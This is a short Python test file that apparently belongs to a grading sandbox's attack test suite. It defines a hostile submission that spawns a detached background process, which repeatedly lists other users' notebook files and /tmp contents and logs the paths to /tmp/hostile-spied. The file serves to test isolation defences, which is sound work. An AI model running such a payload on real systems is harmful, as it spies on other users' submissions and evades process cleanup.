"""Starts a process that waits until the next submission is there, to read it"""

from tests.attacks.attack import Attack

ATTACK = Attack(
    "harm",
    q2="""
import subprocess, sys
code = '''
import glob, time
while True:
    for path in glob.glob("/home/*/*/*.ipynb") + glob.glob("/tmp/*") + glob.glob("../../zoe/*/*.ipynb"):
        open("/tmp/hostile-spied", "a").write(path)
    time.sleep(0.1)
'''
subprocess.Popen([sys.executable, "-c", code, "hostile-spy"], start_new_session=True)
""",
)
